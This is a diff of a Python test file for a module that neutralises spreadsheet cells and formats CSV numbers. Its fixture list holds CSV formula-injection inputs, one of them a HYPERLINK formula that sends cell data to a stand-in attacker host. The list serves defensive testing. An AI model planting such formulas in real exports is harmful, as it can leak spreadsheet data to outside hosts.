@@ -17,7 +17,16 @@ import pytest
 from openpyxl import Workbook
 from sqlalchemy import text
 
-from egov.cells import control_problem, neutral_frame, neutral_row, neutralise, write_csv, write_text
+from egov.cells import (
+    control_problem,
+    neutral_frame,
+    neutral_row,
+    neutralise,
+    plain_number,
+    plain_pair,
+    write_csv,
+    write_text,
+)
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "@SUM(1)", "-2+3", "+1", "\tx", "\rx"]
 
@@ -117,3 +126,40 @@ def test_template_and_report_write_names_with_control_characters(
     assert any("Dept\ufffdBell" in t for t in texts) and any("Obj\ufffdEsc" in t for t in texts)
     with zipfile.ZipFile(xlsx) as zf:
         assert not any(b"\x07" in zf.read(n) or b"\x1b" in zf.read(n) for n in zf.namelist())
+
+
+# --- issue 14: ranks are integers in every CSV, numbers people read are plain -------------------
+def test_ranks_are_written_as_integers(tmp_path: Path) -> None:
+    df = pd.DataFrame(
+        {
+            "unit": ["a", "b", "c"],
+            "Rank": [1.0, 2.0, np.nan],
+            "score": [72.5, 70.0, np.nan],
+            "peer_rank": [1.0, np.nan, 1.0],
+            "rank_p05": [1.0, 1.0, 2.0],
+            "median_rank": [1.5, 2.0, 3.0],  # not whole numbers: left as they are
+            "tier": [1.0, 1.0, 2.0],
+        }
+    )
+    path = tmp_path / "r.csv"
+    write_csv(df, path, index=False, float_format="%.6f")
+    lines = path.read_text(encoding="utf-8").splitlines()
+    assert lines[1:] == [
+        "a,1,72.500000,1,1,1.500000,1",
+        "b,2,70.000000,,1,2.000000,1",
+        "c,,,1,2,3.000000,2",
+    ]
+    # a table of ranks only (units × nodes), named by the caller
+    ranks = pd.DataFrame({"x": [1.0, 2.0], "y": [2.0, np.nan]}, index=pd.Index(["a", "b"], name="unit"))
+    write_csv(ranks, path, ranks=ranks.columns)
+    assert path.read_text(encoding="utf-8").splitlines() == ["unit,x,y", "a,1,2", "b,2,"]
+    assert df["Rank"].dtype == float  # the caller's frame is not changed
+
+
+def test_numbers_people_read_are_plain() -> None:
+    assert plain_number(0.1 * 727) == "72.7"  # 72.70000000000000284 in %.17g
+    assert plain_number(np.float64(68.0625)) == "68.0625"  # never np.float64(…)
+    assert plain_number(654.0) == "654" and plain_number(np.int64(3)) == "3"
+    assert plain_number(float("nan")) == "—" and plain_number(None, missing="missing") == "missing"
+    assert plain_pair(70.0, 70.0 + 1e-13) == ("70.0", "70.0000000000001")  # they differ: every digit
+    assert plain_pair(72.7, 72.5) == ("72.7", "72.5")
